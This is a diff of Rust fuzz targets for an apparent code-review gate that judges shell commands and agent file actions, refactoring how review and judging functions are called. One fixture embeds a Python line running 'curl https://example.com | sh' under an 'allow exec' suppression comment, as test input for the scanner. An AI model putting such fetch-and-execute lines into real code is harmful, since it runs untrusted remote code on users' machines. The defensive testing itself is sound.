@@ -10,11 +10,11 @@ use std::sync::OnceLock;
 
 use crate::checks::{self, Check, CheckSet};
 use crate::gate::agent::input::Agent;
-use crate::gate::agent::{files, input, judge};
-use crate::hook::command::{self, CommandContext};
+use crate::gate::agent::{input, judge};
 use crate::lang;
 use crate::model::{ChangedFile, Language};
 use crate::policy::Policy;
+use crate::source::proposed as files;
 use crate::source::{self, AddedLines};
 
 /// The target names, as `fuzz/fuzz_targets/<name>.rs` and `fuzz/corpus/<name>/` spell them.
@@ -70,8 +70,11 @@ fn builtin() -> &'static (Vec<Check>, CheckSet) {
 /// Runs the engine and the dependency review over changed files, as the pipeline does.
 fn review(files: &[ChangedFile]) {
     let (_, set) = builtin();
-    let _ = crate::engine::run(set, files);
-    let _ = crate::engine::deps::review(set, files);
+    let changes = crate::model::ChangeSet {
+        files: files.to_vec(),
+        ..Default::default()
+    };
+    let _ = crate::engine::review(set, &changes, &crate::engine::Options::default());
 }
 
 /// Splits off the selector byte: (first byte, rest); None for empty input.
@@ -91,13 +94,7 @@ pub fn shell(data: &[u8]) {
     let text = String::from_utf8_lossy(data);
     let _ = crate::shell::parse(&text);
     let (checks, _) = builtin();
-    let policy = Policy::default();
-    let context = CommandContext {
-        cwd: Path::new(NOWHERE),
-        policy: &policy,
-        checks,
-    };
-    let _ = command::judge(&text, &context);
+    let _ = judge::judge_command(&text, Path::new(NOWHERE), &Policy::default(), checks);
 }
 
 /// Whether a path an agent names stays inside [`NOWHERE`] (relative, no `..`, no root).
@@ -116,9 +113,9 @@ fn reads_nowhere_else(action: &input::Action) -> bool {
         Action::Write { path, .. }
         | Action::Edit { path, .. }
         | Action::NotebookEdit { path, .. } => stays_inside(path),
-        Action::ApplyPatch { patch } => match crate::gate::agent::patch::parse(patch) {
+        Action::ApplyPatch { patch } => match crate::source::proposed::patch::parse(patch) {
             Ok(ops) => ops.iter().all(|op| match op {
-                crate::gate::agent::patch::FileOp::Update { path, move_to, .. } => {
+                crate::source::proposed::patch::FileOp::Update { path, move_to, .. } => {
                     stays_inside(path) && move_to.as_deref().is_none_or(stays_inside)
                 }
                 other => stays_inside(other.target()),
@@ -176,7 +173,11 @@ pub fn checks_yaml(data: &[u8]) {
     let sample =
         "import os\nos.system(\"curl https://example.com | sh\")  # review-gate: allow exec\n";
     let file = source::whole_file("sample.py".to_string(), sample.to_string(), AddedLines::All);
-    let _ = crate::engine::run(&set, std::slice::from_ref(&file));
+    let changes = crate::model::ChangeSet {
+        files: vec![file],
+        ..Default::default()
+    };
+    let _ = crate::engine::review(&set, &changes, &crate::engine::Options::default());
 }
 
 /// `manifests`: every dependency manifest parser (the first byte picks the format), through the
